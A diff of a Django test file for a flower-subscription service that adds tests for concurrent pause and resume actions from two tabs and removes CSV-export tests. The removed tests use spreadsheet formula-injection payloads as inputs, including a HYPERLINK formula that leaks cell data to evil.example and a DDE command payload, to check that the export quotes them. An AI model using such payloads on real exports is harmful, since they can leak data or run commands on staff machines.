@@ -1,6 +1,5 @@
 """Deliveries as rows: the schedule they follow, skip, pause and resume, and what staff do with them."""
 
-import csv
 import datetime
 import io
 from decimal import Decimal
@@ -14,6 +13,7 @@ from django.utils import timezone
 
 from accounts import delivery_actions, services
 from accounts.models import Delivery, LedgerEntry, Profile
+from accounts.signals import profile_changed
 from tests.accounts.helpers import due_today, on_its_day, page_text
 
 pytestmark = pytest.mark.django_db
@@ -123,6 +123,23 @@ def test_the_daily_roll_moves_the_window_and_is_safe_to_run_twice(customer):
 
     assert customer.deliveries.count() == count
     assert customer.deliveries.filter(status="scheduled").count() == 8  # first in 3 days, weekly, 8 weeks
+
+
+def test_the_daily_roll_leaves_alone_a_pause_the_customer_ended_meanwhile(customer, monkeypatch):
+    today = timezone.localdate()
+    delivery_actions.profile_pause(profile=customer, resume_on=today + datetime.timedelta(days=1))
+    resume = delivery_actions.profile_resume
+
+    def customer_resumes_first(*, profile, today):
+        resume(profile=Profile.objects.get(pk=profile.pk))  # the customer's tab, a moment earlier
+        return resume(profile=profile, today=today)
+
+    monkeypatch.setattr(delivery_actions, "profile_resume", customer_resumes_first)
+
+    counts = delivery_actions.deliveries_roll(today=today + datetime.timedelta(days=1))
+
+    assert counts["resumed"] == 1
+    assert customer.events.filter(action="resumed").count() == 1
 
 
 # -- skip -----------------------------------------------------------------------------------------
@@ -281,6 +298,41 @@ def test_resume_of_a_subscription_that_is_not_paused_says_so(customer_client, cu
     assert "не приостановлена" in " ".join(texts(response))
 
 
+# action: (what the subscription went through before, the second tab's answer)
+TWO_TABS = {
+    "profile_close": (None, "Подписка уже закрыта."),
+    "profile_reopen": ("profile_close", "Подписка не закрыта."),
+    "profile_pause": (None, "Подписка уже приостановлена."),
+    "profile_resume": ("profile_pause", "Подписка не приостановлена."),
+}
+
+
+@pytest.mark.parametrize("action", TWO_TABS)
+def test_two_tabs_doing_the_same_to_the_subscription_do_it_once_and_tell_the_second(customer, action):
+    before, said = TWO_TABS[action]
+    if before:
+        getattr(delivery_actions, before)(profile=customer)
+    # Each tab's view read the profile before the other's action committed.
+    first_tab, second_tab = Profile.objects.get(pk=customer.pk), Profile.objects.get(pk=customer.pk)
+    told = []
+
+    def receiver(**kwargs) -> None:
+        told.append(kwargs["action"])
+
+    profile_changed.connect(receiver, weak=False)
+    try:
+        getattr(delivery_actions, action)(profile=first_tab)
+        with pytest.raises(delivery_actions.DeliveryError) as refused:
+            getattr(delivery_actions, action)(profile=second_tab)
+    finally:
+        profile_changed.disconnect(receiver)
+
+    assert str(refused.value) == said
+    assert len(told) == 1  # one change for amoCRM to mirror
+    assert customer.events.filter(action=told[0]).count() == 1  # one line in the history
+    assert second_tab.account_status == first_tab.account_status  # the second tab reads what is
+
+
 def test_the_account_page_shows_the_pause_and_the_resume_button(customer_client, customer):
     assert 'action="/account/pause/"' in page_text(customer_client.get("/account/"))
 
@@ -375,165 +427,6 @@ def test_the_deliveries_list_filters_by_day_and_status(superuser_client, profile
     assert [x.profile for x in shown] == [tomorrow_profile]
     for day in ["today", "week"]:
         assert superuser_client.get(ADMIN_DELIVERIES, {"day": day}).status_code == HTTPStatus.OK
-
-
-def test_the_csv_of_tomorrows_deliveries_lists_address_category_wishes_and_phone(
-    superuser_client, profile_factory
-):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile_factory(first_delivery_date=tomorrow, wishes="Без лилий, с запиской", phone="+7 900 123-45-67")
-    profile_factory(first_delivery_date=tomorrow + datetime.timedelta(days=1))  # the day after: not listed
-    skipper = profile_factory(first_delivery_date=tomorrow)
-    Delivery.objects.filter(profile=skipper).update(status="skipped")
-
-    listing = superuser_client.get(ADMIN_DELIVERIES)
-    response = superuser_client.get(f"{ADMIN_DELIVERIES}export-tomorrow/")
-
-    assert f"{ADMIN_DELIVERIES}export-tomorrow/" in page_text(listing)
-    assert response.status_code == HTTPStatus.OK
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert f"deliveries-{tomorrow.isoformat()}.csv" in response["Content-Disposition"]
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert rows == [
-        ["Дата", "Адрес", "Категория", "Пожелания", "Телефон", *COURIER_HEADERS],
-        [
-            tomorrow.isoformat(),
-            "Москва, ул. Ленина, 25, кв. 10",
-            "Романтический",
-            "Без лилий, с запиской",
-            "8 (900) 123-45-67",
-            # No details given: the recipient is the customer (no name given either), on their phone.
-            *["", "", "", "", "", "8 (900) 123-45-67", ""],
-        ],
-    ]
-
-
-COURIER_HEADERS = [
-    "Время",
-    "Подъезд",
-    "Этаж",
-    "Домофон",
-    "Получатель",
-    "Телефон получателя",
-    "Записка курьеру",
-]
-
-
-def test_the_csv_gives_couriers_the_profiles_details_and_a_deliverys_own_changes_over_them(
-    superuser_client, profile_factory, user_factory
-):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile = profile_factory(
-        user_factory(first_name="Анна"), first_delivery_date=tomorrow, phone="+79001234567"
-    )
-    Profile.objects.filter(pk=profile.pk).update(
-        time_window="09-12", entrance="2", floor="5", intercom="25К", courier_note="Позвонить за час"
-    )
-    Delivery.objects.filter(profile=profile, delivery_on=tomorrow).update(
-        recipient_name="Мама", recipient_phone="+79007654321", time_window="18-21"
-    )
-
-    [header, row] = export_rows(superuser_client)
-
-    assert header[5:] == COURIER_HEADERS
-    assert row[5:] == ["18:00–21:00", "2", "5", "25К", "Мама", "8 (900) 765-43-21", "Позвонить за час"]
-
-
-def test_the_csv_names_the_customer_as_recipient_when_nobody_else_is_named(
-    superuser_client, profile_factory, user_factory
-):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile_factory(user_factory(first_name="Анна"), first_delivery_date=tomorrow, phone="+79001234567")
-
-    [_, row] = export_rows(superuser_client)
-
-    assert row[9:11] == ["Анна", "8 (900) 123-45-67"]
-
-
-def test_the_csv_quotes_a_courier_note_a_spreadsheet_would_run(superuser_client, profile_factory):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile = profile_factory(first_delivery_date=tomorrow)
-    Profile.objects.filter(pk=profile.pk).update(courier_note="=HYPERLINK(1)", intercom="+1")
-
-    [_, row] = export_rows(superuser_client)
-
-    assert (row[8], row[11]) == ("'+1", "'=HYPERLINK(1)")
-
-
-def export_rows(client) -> list[list[str]]:
-    response = client.get(f"{ADMIN_DELIVERIES}export-tomorrow/")
-    assert response.status_code == HTTPStatus.OK
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-
-
-@pytest.mark.parametrize(
-    "typed",
-    ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
-    + ["\t=1+1", "\r=1+1"],
-)
-def test_the_csv_quotes_cells_a_spreadsheet_would_run_and_keeps_them_otherwise(
-    superuser_client, profile_factory, typed
-):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile = profile_factory(first_delivery_date=tomorrow, wishes=typed)
-    Delivery.objects.filter(profile=profile).update(delivery_address=typed)
-
-    [_, row] = export_rows(superuser_client)
-
-    assert row[1] == row[3] == f"'{typed}"
-
-
-@pytest.mark.parametrize(
-    ("stored", "written"),
-    [("+79001234567", "8 (900) 123-45-67"), ("+12025550143", "'+1 202-555-0143"), ("", "")],
-)
-def test_the_csv_writes_phones_as_couriers_dial_them(superuser_client, profile_factory, stored, written):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile_factory(first_delivery_date=tomorrow, phone=stored)
-
-    [_, row] = export_rows(superuser_client)
-
-    assert row[4] == written
-
-
-def test_the_csv_leaves_ordinary_text_alone(superuser_client, profile_factory):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile_factory(first_delivery_date=tomorrow, wishes="Розы, 5 шт. = 'много'; без лилий")
-
-    [_, row] = export_rows(superuser_client)
-
-    assert row[3] == "Розы, 5 шт. = 'много'; без лилий"
-
-
-def test_a_tab_typed_before_a_formula_survives_the_form_and_is_quoted_in_the_csv(
-    client, superuser, profile_factory
-):
-    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
-    profile = profile_factory(first_delivery_date=tomorrow)
-    client.force_login(profile.user)
-    data = {
-        "bouquet_category": profile.bouquet_category.slug,
-        "delivery_address": profile.delivery_address,
-        "next_delivery_date": tomorrow.isoformat(),
-        "delivery_interval": profile.delivery_interval,
-        "wishes": "\r\n\t=cmd|' /C calc'!A0  \r\n",
-        "phone": "",
-    }
-
-    response = client.post("/account/preferences/", data)
-
-    assert response.status_code == HTTPStatus.FOUND
-    profile.refresh_from_db()
-    assert profile.wishes == "\t=cmd|' /C calc'!A0"
-    client.force_login(superuser)
-    assert export_rows(client)[1][3] == "'\t=cmd|' /C calc'!A0"
-
-
-def test_the_csv_is_for_staff_only(customer_client):
-    response = customer_client.get(f"{ADMIN_DELIVERIES}export-tomorrow/")
-
-    assert response.status_code == HTTPStatus.FOUND
-    assert "/admin/login/" in response.url
 
 
 @pytest.mark.parametrize("action", ["delivery_skip", "delivery_unskip", "delivery_move"])
